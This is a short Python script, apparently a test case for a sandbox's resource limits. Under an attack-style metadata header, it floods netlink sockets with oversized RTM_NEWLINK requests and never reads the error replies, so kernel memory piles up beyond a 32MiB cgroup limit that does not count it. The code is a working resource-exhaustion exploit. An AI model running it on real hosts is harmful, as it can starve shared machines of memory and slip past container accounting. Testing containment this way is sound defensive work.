# /// attack
# guarantee = "memory"
# summary = "Asks the kernel to change its network and never reads the refusals: no control group counts them."
# reference = "netlink(7), SO_RCVBUF in socket(7)"
# success = "four times the limit lies in refusals"
# policy = { limits = { memory = "32MiB", open_files = 1024 } }
# refusal = { process = "denied EACCES", default = "limit memory" }
# ///

import socket
import struct
import time

from kit import attempt, succeeded

SIZE = 16 << 10
QUESTION = struct.pack("=IHHII", SIZE, 16, 5, 1, 0).ljust(SIZE)  # RTM_NEWLINK: the refusal repeats it


def held():
    with open("/proc/self/net/netlink") as file:
        return sum(int(line.split()[4]) for line in list(file)[1:])


kept = []
deadline = time.monotonic() + 8
while held() < 128 << 20 and time.monotonic() < deadline and len(kept) < 1000:
    asking = attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
    asking.bind((0, 0))
    asking.setblocking(False)
    asking.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
    kept.append(asking)
    for _ in range(600):
        asking.send(QUESTION)
time.sleep(0.5)
if held() >= 128 << 20:
    succeeded(held())
